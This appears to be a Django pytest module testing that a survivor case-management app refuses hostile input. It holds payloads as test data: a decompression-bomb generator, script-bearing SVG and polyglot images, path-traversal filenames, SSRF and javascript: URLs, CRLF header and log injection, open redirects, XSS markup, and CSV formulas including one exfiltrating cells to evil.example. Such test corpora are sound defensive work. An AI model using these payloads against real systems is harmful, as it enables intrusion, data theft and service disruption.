"""A corpus of hostile and broken input, each case answered with a 4xx or a clear form error,
never a 500, and nothing stored that should not be (rows counted, storage listed).

Uploads (bombs, polyglots, SVG with script, empty, oversized, truncated), filenames (path
traversal, NUL, right-to-left override), addresses (javascript:, data:, file:, internal, CRLF,
overlong, IDN homographs), forms, headers, query strings (open-redirect `next` values), CRLF
in login names (one log line) and formula prefixes in CSV.
"""

import csv
import io
import logging
import re
import struct
import zipfile
import zlib
from functools import cache
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from PIL import Image

from accounts.models import User
from cases.models import Case, CaseNote
from evidence import vault
from evidence.demo_images import make_image
from evidence.models import EvidenceFile, ReferenceHash, Sighting
from leakcase.csv_export import safe_cell
from platforms.models import Platform
from takedowns.models import TakedownRequest
from tests import images
from tests.case_world import CaseWorld
from tests.conftest import PASSWORD

# --- what "nothing stored" means ---------------------------------------------------------

COUNTED = (Case, Sighting, EvidenceFile, ReferenceHash, CaseNote, TakedownRequest, User, Platform)


def _stored_files():
    root = Path(settings.STORAGES["default"]["OPTIONS"]["location"])
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def _snapshot():
    return {m._meta.label: m.objects.count() for m in COUNTED}, _stored_files()


def assert_refused(response, before):
    assert response.status_code == 400, response.status_code
    assert _snapshot() == before, "something was stored"


# --- files made by code ------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims width x height pixels."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


@cache
def png_bomb() -> bytes:
    """A real decompression bomb: 64 million 1-bit pixels in a few kilobytes."""
    out = io.BytesIO()
    Image.new("1", (8000, 8000)).save(out, "PNG", optimize=True)
    return out.getvalue()


def _zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return out.getvalue()


JPEG = make_image(seed=3)
HTML_TAIL = b"<html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(1)</script></svg>"
)

REFUSED_UPLOADS = {
    "zero-byte": (b"", "image/jpeg", "empty.jpg"),
    "truncated-jpeg": (JPEG[: len(JPEG) // 2], "image/jpeg", "half.jpg"),
    "png-header-claims-3600-megapixels": (png_claiming(60000, 60000), "image/png", "b.png"),
    "png-decompression-bomb-64-megapixels": (None, "image/png", "bomb.png"),
    "svg-with-script": (SVG, "image/svg+xml", "pic.svg"),
    "svg-named-jpg": (SVG, "image/jpeg", "pic.jpg"),
    "html-named-jpg": (HTML_TAIL, "image/jpeg", "page.jpg"),
    "pdf": (b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", "application/pdf", "x.pdf"),
    "bmp-not-accepted": (images.bmp(), "image/bmp", "x.bmp"),
    "gif-of-81-megapixels": (images.gif_claiming(9000, 9000), "image/gif", "x.gif"),
    "heic-of-81-megapixels": (images.heic_claiming(9000, 9000), "image/heic", "x.heic"),
    "zip-alone": (_zip_bytes(), "application/zip", "x.zip"),
    "jpeg-magic-then-junk": (b"\xff\xd8\xff\xe0" + b"\x00junk" * 200, "image/jpeg", "j.jpg"),
    "random-bytes-as-webp": (
        b"RIFF\x10\x00\x00\x00WEBPVP8 " + b"\x01" * 64,
        "image/webp",
        "w.webp",
    ),
}


def _multipart(field: str, filename: bytes, data: bytes, content_type="image/jpeg"):
    """A multipart body written by hand: the test client would clean the filename itself."""
    boundary = "----corpusboundary7MA4YWxkTrZu0gW"
    body = (
        f"--{boundary}\r\n".encode()
        + b'Content-Disposition: form-data; name="'
        + field.encode()
        + b'"; filename="'
        + filename
        + b'"\r\n'
        + f"Content-Type: {content_type}\r\n\r\n".encode()
        + data
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return body, f"multipart/form-data; boundary={boundary}"


# --- uploads -----------------------------------------------------------------------------


@pytest.fixture
def as_survivor(client, survivor, case):
    client.force_login(survivor)
    return client


@pytest.mark.parametrize("name", list(REFUSED_UPLOADS))
def test_refused_evidence_uploads(as_survivor, case, name):
    data, content_type, filename = REFUSED_UPLOADS[name]
    data = png_bomb() if data is None else data
    body, multipart = _multipart("image", filename.encode(), data, content_type)
    before = _snapshot()
    response = as_survivor.generic(
        "POST", reverse("evidence:upload", args=[case.reference]), body, multipart
    )
    assert_refused(response, before)
    assert b'class="errorlist' in response.content or b"error" in response.content


@pytest.mark.parametrize(
    "name", ["zero-byte", "svg-with-script", "png-decompression-bomb-64-megapixels"]
)
def test_refused_reference_images(as_survivor, case, name):
    data, content_type, filename = REFUSED_UPLOADS[name]
    data = png_bomb() if data is None else data
    body, multipart = _multipart("image", filename.encode(), data, content_type)
    before = _snapshot()
    response = as_survivor.generic(
        "POST", reverse("evidence:references", args=[case.reference]), body, multipart
    )
    assert_refused(response, before)


def test_an_oversized_upload_is_refused_before_it_is_read(as_survivor, case, settings):
    settings.EVIDENCE_MAX_UPLOAD_BYTES = 10_000
    data = JPEG + b"\x00" * 20_000
    body, multipart = _multipart("image", b"big.jpg", data)
    before = _snapshot()
    response = as_survivor.generic(
        "POST", reverse("evidence:upload", args=[case.reference]), body, multipart
    )
    assert_refused(response, before)
    assert b"limit" in response.content or b"MB" in response.content or b"kB" in response.content


ZIP = _zip_bytes()  # once: a ZIP holds the time it was written


def _jpeg_with_comment(comment: bytes) -> bytes:
    out = io.BytesIO()
    Image.open(io.BytesIO(JPEG)).save(out, "JPEG", comment=comment)
    return out.getvalue()


def _png_with_text(text: bytes) -> bytes:
    out = io.BytesIO()
    Image.open(io.BytesIO(JPEG)).save(out, "PNG")
    data = out.getvalue()
    iend = data.rindex(b"IEND") - 4
    return data[:iend] + _png_chunk(b"tEXt", b"Comment\x00" + text) + data[iend:]


@pytest.mark.parametrize(
    ("name", "data", "payload", "content_type"),
    [
        ("jpeg-with-html-appended", JPEG + HTML_TAIL, HTML_TAIL, "image/jpeg"),
        ("jpeg-with-zip-appended", JPEG + ZIP, ZIP, "image/jpeg"),
        ("jpeg-with-comment-script", _jpeg_with_comment(HTML_TAIL), HTML_TAIL, "image/jpeg"),
        ("png-with-html-appended", _png_with_text(b"x") + HTML_TAIL, HTML_TAIL, "image/png"),
        ("png-with-text-script", _png_with_text(HTML_TAIL), HTML_TAIL, "image/png"),
    ],
)
def test_polyglots_are_kept_only_as_the_clean_image(
    as_survivor, case, name, data, payload, content_type
):
    """A JPEG or PNG that is also HTML or a ZIP is a valid screenshot; what is kept is the
    image alone (its pixel data stripped of comments, text chunks and everything after its
    end marker, evidence/stripping.py), so no piece of the other half is in any stored
    rendition, and it is served as an image."""
    assert payload in data
    body, multipart = _multipart("image", b"shot.jpg", data)
    response = as_survivor.generic(
        "POST", reverse("evidence:upload", args=[case.reference]), body, multipart
    )
    assert response.status_code == 302
    evidence = EvidenceFile.objects.get()
    assert evidence.content_type == content_type
    # Every 12-byte piece of the payload: none may survive, decrypted, in any rendition.
    pieces = {payload[i : i + 12] for i in range(len(payload) - 11)}
    for rendition in ("file", "thumbnail", "preview"):
        stored = vault.read(evidence, rendition)
        assert not [piece for piece in pieces if piece in stored]
    stored = vault.read(evidence, "file")
    # Lossless: the same pixels as the upload, and nothing after the image's end marker.
    assert Image.open(io.BytesIO(stored)).tobytes() == Image.open(io.BytesIO(data)).tobytes()
    end = b"\xff\xd9" if content_type == "image/jpeg" else _png_chunk(b"IEND", b"")
    assert stored.endswith(end) and stored.count(end) == 1
    served = as_survivor.get(reverse("evidence:file", args=[case.reference, evidence.pk, "image"]))
    assert served["Content-Type"] == content_type
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served.content == stored


@pytest.mark.parametrize(
    "filename",
    [
        b"../../../../etc/passwd.jpg",
        b"..\\..\\windows\\system32\\evil.jpg",
        b"shot\x00.php.jpg",
        "photo\u202egpj.exe".encode(),
        b"%2e%2e%2f%2e%2e%2fescape.jpg",
        ("a" * 200 + ".jpg").encode(),
    ],
    ids=["traversal", "backslash-traversal", "nul", "rtl-override", "encoded-traversal", "long"],
)
def test_hostile_filenames_never_reach_storage_or_the_row(as_survivor, case, filename):
    body, multipart = _multipart("image", filename, JPEG)
    before_files = _stored_files()
    response = as_survivor.generic(
        "POST", reverse("evidence:upload", args=[case.reference]), body, multipart
    )
    # The picture is hers and fine: it is kept, under a name made harmless.
    assert response.status_code == 302
    new_files = sorted(set(_stored_files()) - set(before_files))
    evidence = EvidenceFile.objects.get()
    kept = vault.original_name(evidence)
    for bad in ("/", "\\", "\x00", "\u202e", ".."):
        assert bad not in kept, kept
    assert len(kept) <= 200
    # Stored under our own names only: evidence/<uuid>/<rendition>.<ext>.sealed
    assert new_files and all(
        re.fullmatch(rf"evidence/{evidence.pk}/(original|thumbnail|preview)\.\w+(\.sealed)?", f)
        for f in new_files
    ), new_files


def test_a_file_name_longer_than_any_file_system_allows_is_a_bad_request(as_survivor, case):
    """Django reads at most 1 kB of a part's headers (MultiPartParser's
    MAX_TOTAL_HEADER_SIZE): a 1,000-character file name no phone or computer makes is
    refused whole, and nothing is kept."""
    before = _snapshot()
    before_files = _stored_files()
    body, multipart = _multipart("image", ("a" * 1000 + ".jpg").encode(), JPEG)
    response = as_survivor.generic(
        "POST", reverse("evidence:upload", args=[case.reference]), body, multipart
    )
    assert response.status_code == 400
    assert _snapshot() == before and _stored_files() == before_files


def test_a_multipart_post_without_a_boundary_is_a_bad_request(as_survivor, case):
    before = _snapshot()
    response = as_survivor.generic(
        "POST", reverse("evidence:upload", args=[case.reference]), b"xx", "multipart/form-data"
    )
    assert_refused(response, before)


def test_too_many_fields_is_a_bad_request(as_survivor, case):
    before = _snapshot()
    body = "&".join(f"f{n}=x" for n in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 10))
    response = as_survivor.generic(
        "POST",
        reverse("evidence:sighting_add", args=[case.reference]),
        body,
        "application/x-www-form-urlencoded",
    )
    assert_refused(response, before)


# --- addresses ---------------------------------------------------------------------------

REFUSED_URLS = {
    "javascript": "javascript:alert(document.cookie)",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file": "file:///etc/passwd",
    "ftp": "ftp://x.com/a",
    "loopback": "http://127.0.0.1/admin",
    "private": "http://10.0.0.5/",
    "cloud-metadata": "http://169.254.169.254/latest/meta-data/",
    "ipv6-loopback": "http://[::1]/",
    "ipv4-mapped-ipv6": "http://[::ffff:127.0.0.1]/",
    "localhost": "http://localhost:8000/",
    "decimal-ip": "http://2130706433/",
    "crlf": "https://x.com/a\r\nSet-Cookie: pwned=1",
    "tab": "https://x.com/a\tb",
    "overlong": "https://x.com/" + "a" * 3000,
    "userinfo": "https://user:pass@x.com/",
    "bad-port": "https://x.com:99999/",
    "empty": "   ",
    "no-host": "https:///nothing",
}


@pytest.mark.parametrize("name", list(REFUSED_URLS))
def test_refused_sighting_addresses(as_survivor, case, name):
    before = _snapshot()
    response = as_survivor.post(
        reverse("evidence:sighting_add", args=[case.reference]), {"url": REFUSED_URLS[name]}
    )
    assert_refused(response, before)
    assert b"errorlist" in response.content


def test_an_idn_homograph_is_kept_in_punycode_so_it_cannot_pass_for_the_real_site(
    as_survivor, case
):
    response = as_survivor.post(
        reverse("evidence:sighting_add", args=[case.reference]),
        {"url": "https://\u0430pple.com/leak"},  # Cyrillic a
    )
    assert response.status_code == 302
    assert Sighting.objects.get().url == "https://xn--pple-43d.com/leak"


def test_a_pasted_list_of_bad_addresses_stores_nothing_and_names_each_line(as_survivor, case):
    before = _snapshot()
    text = "\n".join(REFUSED_URLS[n] for n in ("javascript", "file", "loopback", "userinfo"))
    response = as_survivor.post(
        reverse("evidence:sightings_paste", args=[case.reference]), {"urls": text}
    )
    assert response.status_code == 400
    assert _snapshot() == before
    body = response.content.decode()
    for line in (1, 2, 3, 4):
        assert re.search(rf"\b[Ll]ine {line}\b", body), line


# --- forms -------------------------------------------------------------------------------


@pytest.fixture
def world(survivor, other_survivor, caseworker, supervisor):
    return CaseWorld(
        survivor=survivor,
        other_survivor=other_survivor,
        caseworker=caseworker,
        supervisor=supervisor,
    )


def _form_cases(world):
    ref = world.case.reference
    draft = world.draft.pk
    return {
        "pseudonym-overlong": ("survivor", reverse("cases:open"), {"pseudonym": "R" * 500}),
        "note-overlong": (
            "caseworker",
            reverse("cases:note_add", args=[ref]),
            {"body": "n" * 6000, "visibility": "internal"},
        ),
        "note-visibility-unknown": (
            "caseworker",
            reverse("cases:note_add", args=[ref]),
            {"body": "n", "visibility": "public-internet"},
        ),
        "priority-unknown": ("caseworker", reverse("cases:triage", args=[ref]), {"priority": "x"}),
        "status-unknown": ("caseworker", reverse("cases:status", args=[ref]), {"status": "gone"}),
        "takedown-email-header-injection": (
            "caseworker",
            reverse("takedowns:edit", args=[ref, draft]),
            {
                "legal_basis": "platform_policy",
                "signer_name": "R",
                "signer_capacity": "self",
                "contact_email": "rose@example.test\r\nBcc: everyone@evil.example",
            },
        ),
        "platform-form-url-javascript": (
            "supervisor",
            reverse("platforms:new"),
            {
                "name": "Evil",
                "slug": "evil",
                "kind": "social",
                "report_form_url": "javascript:alert(1)",
                "source": "x",
            },
        ),
        "crop-inside-out": (
            "survivor",
            reverse("evidence:crop", args=[ref, world.evidence.pk]),
            {"left": 50, "top": 50, "right": 10, "bottom": 10},
        ),
        "caller-email-crlf": (
            "supervisor",
            reverse("cases:open_for_caller"),
            {"pseudonym": "C", "contact_email": "c@example.test\r\nBcc: x@evil.example"},
        ),
        "consent-unknown": ("survivor", reverse("cases:consent", args=[ref]), {"consent": "x"}),
        "consent-note-overlong": (
            "caseworker",
            reverse("cases:consent", args=[ref]),
            {"consent": "withdraw", "note": "n" * 400},
        ),
        "notice-contact-unknown": (
            "survivor",
            reverse("cases:notice_contact", args=[ref]),
            {"notice_contact": "everyone@evil.example"},
        ),
    }


FORM_CASES = [
    "pseudonym-overlong",
    "note-overlong",
    "note-visibility-unknown",
    "priority-unknown",
    "status-unknown",
    "takedown-email-header-injection",
    "platform-form-url-javascript",
    "crop-inside-out",
    "caller-email-crlf",
    "consent-unknown",
    "consent-note-overlong",
    "notice-contact-unknown",
]


@pytest.mark.parametrize("name", FORM_CASES)
def test_refused_forms(client, world, name):
    role, url, data = _form_cases(world)[name]
    client.force_login(world.users[role])
    before_counts = {m._meta.label: m.objects.count() for m in COUNTED}
    before_draft = TakedownRequest.objects.filter(pk=world.draft.pk).values().get()
    response = client.post(url, data)
    assert response.status_code == 400, response.status_code
    assert {m._meta.label: m.objects.count() for m in COUNTED} == before_counts
    assert TakedownRequest.objects.filter(pk=world.draft.pk).values().get() == before_draft
    assert not Platform.objects.filter(slug="evil").exists()
    world.case.refresh_from_db()
    assert (world.case.consent_to_contact_platforms, world.case.notice_contact) == (
        True,
        "service",
    )


def test_a_signup_with_crlf_in_the_email_is_a_form_error(client, db):
    before = _snapshot()
    response = client.post(
        reverse("account_signup"),
        {
            "email": "rose@example.test\r\nINFO forged log line",
            "password1": PASSWORD,
            "password2": PASSWORD,
        },
    )
    assert response.status_code == 200 and b"errorlist" in response.content
    assert _snapshot() == before


def _console_handler():
    from leakcase.logs import RedactingFormatter

    for handler in logging.getLogger().handlers:
        if isinstance(handler.formatter, RedactingFormatter):
            return handler
    raise AssertionError("the console handler from settings.LOGGING is not installed")


def test_crlf_in_a_login_name_makes_one_log_line(client, survivor, caplog):
    """Whatever is logged about a failed login, each record is written as one line."""
    handler = _console_handler()
    forged = "rose@example.test\r\n2026-01-01 INFO django.security forged: admin logged in"
    with caplog.at_level(logging.DEBUG):
        client.post(reverse("account_login"), {"login": forged, "password": "wrong"})
        logging.getLogger("corpus").warning("login failed for %s", forged)  # the worst case
    assert caplog.records
    for record in caplog.records:
        if handler.filter(record):
            line = handler.format(record)
            assert "\n" not in line and "\r" not in line, line
    assert not client.session.get("_auth_user_id")


# --- headers -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "host", ["evil.example", "testserver.evil.example", "testserver:8000@evil.example"]
)
def test_a_foreign_host_header_is_a_bad_request(client, host):
    assert client.get("/", HTTP_HOST=host).status_code == 400


def test_a_forged_request_id_is_not_echoed(client):
    response = client.get("/", HTTP_X_REQUEST_ID="abc\r\nSet-Cookie: session=stolen")
    assert response.status_code == 200
    assert "Set-Cookie" not in response["X-Request-ID"] and "session=stolen" not in str(
        response.cookies
    )


# --- query strings: open redirects --------------------------------------------------------

EVIL_NEXT = [
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "https:evil.example",
    "https://evil.example/",
    "http://testserver@evil.example/",
    "javascript:alert(1)",
    "/%09/evil.example",
    "//evil.example/%2F..",
    "data:text/html,<script>alert(1)</script>",
]


def _is_our_path(location: str) -> bool:
    parts = urlsplit(location)
    return (
        not parts.scheme
        and not parts.netloc
        and location.startswith("/")
        and not location.startswith(("//", "/\\"))
    )


@pytest.mark.parametrize("next_value", EVIL_NEXT)
def test_login_next_only_goes_to_our_own_paths(client, survivor, next_value):
    response = client.post(
        f"{reverse('account_login')}?next={next_value}",
        {"login": survivor.email, "password": PASSWORD, "next": next_value},
    )
    assert response.status_code == 302
    assert _is_our_path(response["Location"]), response["Location"]


@pytest.mark.parametrize("next_value", EVIL_NEXT[:4])
def test_logout_next_only_goes_to_our_own_paths(client, survivor, next_value):
    client.force_login(survivor)
    response = client.post(reverse("account_logout"), {"next": next_value})
    assert response.status_code == 302
    assert _is_our_path(response["Location"]), response["Location"]


def test_an_unknown_caseload_tab_is_not_found(client, caseworker):
    client.force_login(caseworker)
    assert client.get(reverse("cases:caseload"), {"tab": "../../etc/passwd"}).status_code == 404


# --- CSV ---------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("name", FORMULAS, ids=[f"formula-{n}" for n in range(len(FORMULAS))])
def test_platform_names_in_the_figures_csv_are_text_not_formulas(client, world, name):
    platform = world.sent.platform
    Platform.objects.filter(pk=platform.pk).update(name=name)
    client.force_login(world.users["supervisor"])
    response = client.get(reverse("platforms:figures"), {"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [row[0] for row in rows[1:]]
    assert "'" + name in cells, cells
    assert name not in cells


def test_numbers_and_plain_text_are_left_alone():
    assert safe_cell(-5) == -5 and safe_cell(1.5) == 1.5 and safe_cell(None) is None
    assert safe_cell("Reddit") == "Reddit" and safe_cell("a=b") == "a=b"


# --- stored text is shown escaped ---------------------------------------------------------

MARKUP = '<script>alert(1)</script><img src=x onerror="alert(2)"><a href="javascript:x">y</a>'


def test_notes_are_rendered_escaped(client, world):
    client.force_login(world.users["caseworker"])
    response = client.post(
        reverse("cases:note_add", args=[world.case.reference]),
        {"body": MARKUP, "visibility": "shared"},
    )
    assert response.status_code == 302
    for role in ("caseworker", "survivor"):
        reader = Client()
        reader.force_login(world.users[role])
        body = reader.get(reverse("cases:detail", args=[world.case.reference])).content.decode()
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body, role
        assert "<script>alert(1)" not in body and 'onerror="alert(2)"' not in body


def test_platform_replies_are_rendered_escaped(client, world):
    client.force_login(world.users["caseworker"])
    url = reverse("takedowns:reply", args=[world.case.reference, world.sent.pk])
    response = client.post(url, {"body": MARKUP, "decision": "acknowledged"})
    assert response.status_code == 302
    detail = reverse("takedowns:detail", args=[world.case.reference, world.sent.pk])
    body = client.get(detail).content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body
    assert "<script>alert(1)" not in body and 'href="javascript:x"' not in body
